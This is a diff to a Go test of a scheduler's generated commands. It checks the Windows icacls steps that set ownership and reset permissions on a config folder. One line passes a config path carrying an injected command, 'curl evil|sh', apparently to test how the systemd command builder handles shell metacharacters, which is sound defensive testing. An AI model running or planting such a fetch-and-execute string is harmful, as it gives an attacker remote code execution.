@@ -105,7 +105,9 @@ func TestSteps(t *testing.T) {
 		return all
 	}
 	windows := commands(schedule.Windows, schedule.Command{Config: `D:\call roll\callroll.yaml`})
-	if !strings.HasPrefix(windows[2], `icacls "D:\call roll" /inheritance:r`) {
+	// What others were given in a folder of theirs is taken away before the folder gives anything.
+	want := []string{`icacls "D:\call roll" /setowner`, `icacls "D:\call roll" /reset /T`, `icacls "D:\call roll" /inheritance:r`}
+	if !slices.EqualFunc(windows[2:5], want, strings.HasPrefix) {
 		t.Errorf("the commands are %q", windows)
 	}
 	systemd := commands(schedule.Systemd, schedule.Command{Config: "/etc/x; curl evil|sh #/c.yaml"})
